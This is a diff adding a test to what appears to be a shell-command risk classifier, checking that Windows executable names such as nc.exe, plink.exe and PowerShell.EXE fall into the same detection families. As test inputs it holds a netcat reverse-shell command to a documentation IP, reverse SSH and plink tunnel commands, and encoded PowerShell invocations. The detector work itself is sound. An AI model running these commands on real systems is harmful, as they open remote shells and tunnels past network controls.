@@ -282,6 +282,20 @@ TEST_F(FamiliesTest, CredentialDumpingAndSearching) {
                 {kSecret});
 }
 
+TEST_F(FamiliesTest, WindowsFileNamesAreTheSamePrograms) {
+  // nc.exe is nc, PowerShell.EXE is powershell: the table's families apply.
+  Check({
+      {"nc.exe 203.0.113.5 4444 -e cmd.exe", "net.reverse_shell", kTerminate},
+      {"plink.exe -R 8080:127.0.0.1:80 u@203.0.113.5", "net.tunnel", kTerminate},
+      {"ssh.exe -fNR 9000:localhost:22 u@203.0.113.5", "net.tunnel", kTerminate},
+      {"PowerShell.EXE -e SQBFAFgA", "shell.unanalyzable", kBlock},
+      {"pwsh -EncodedCommand SQBFAFgA", "shell.unanalyzable", kBlock},
+  });
+  CheckOrdinary({"git.exe status", "python.exe -m pytest -q", "pwsh -File build.ps1",
+                 "pwsh -ExecutionPolicy Bypass -File test.ps1", "powershell -c Get-ChildItem"},
+                {"shell.unanalyzable", "net.egress"});
+}
+
 TEST_F(FamiliesTest, CredentialStoresAskedForTheSecret) {
   // Keyrings, password stores, token commands and cluster secrets: asking for
   // the secret is credential access; asking what is there is not.
